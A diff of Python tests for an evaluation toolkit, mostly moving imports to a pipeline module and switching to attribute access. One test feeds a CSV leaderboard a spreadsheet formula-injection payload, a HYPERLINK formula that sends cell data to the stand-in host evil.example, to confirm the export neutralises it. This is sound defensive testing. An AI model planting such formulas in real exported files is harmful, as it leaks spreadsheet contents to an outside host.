@@ -506,26 +506,26 @@ def test_pin_force_replaces_only_the_pinned_file_and_intact_runs_pass(tmp_path):
 
 def test_a_damaged_generation_line_written_again_later_loses_nothing(tmp_path):
     """item 8: a torn line whose story was appended again (a resume) is only a note: every story is scored."""
-    from evalkit.scoring import score_run
+    from evalkit.pipeline import score_run
 
     run = _run(Sandbox(tmp_path))
     gens = run / "generations.jsonl"
     lines = gens.read_text(encoding="utf-8").splitlines(keepends=True)
     gens.write_text("".join(lines[:2]) + lines[2][:40] + "\n" + "".join(lines[3:]) + lines[2], encoding="utf-8")
     summary = score_run(run, ["repetition"])
-    assert summary["problems"] == [f"{gens}:3: skipped a damaged line (JSONDecodeError)"]
-    assert all(m["distinct_2"]["n"] == 5 for m in summary["models"].values())
+    assert summary.problems == [f"{gens}:3: skipped a damaged line (JSONDecodeError)"]
+    assert all(m["distinct_2"].n == 5 for m in summary.models.values())
 
 
 def test_leaderboard_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
     """item 10: text cells a spreadsheet would run (= + - @ tab CR) get a leading quote (OWASP); numbers stay numbers."""
     import csv
 
-    from evalkit.runner import rate_and_report
+    from evalkit.pipeline import rate_run
 
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     run = _run(Sandbox(tmp_path), labels=(evil, "@SUM(1+1)"))
-    rate_and_report(run)
+    rate_run(run)
     res = evalkit_cli(tmp_path, "leaderboard", str(run.parent), "-f", "csv")
     assert res.returncode == 0, res.stderr
     rows = list(csv.DictReader(res.stdout.splitlines()))
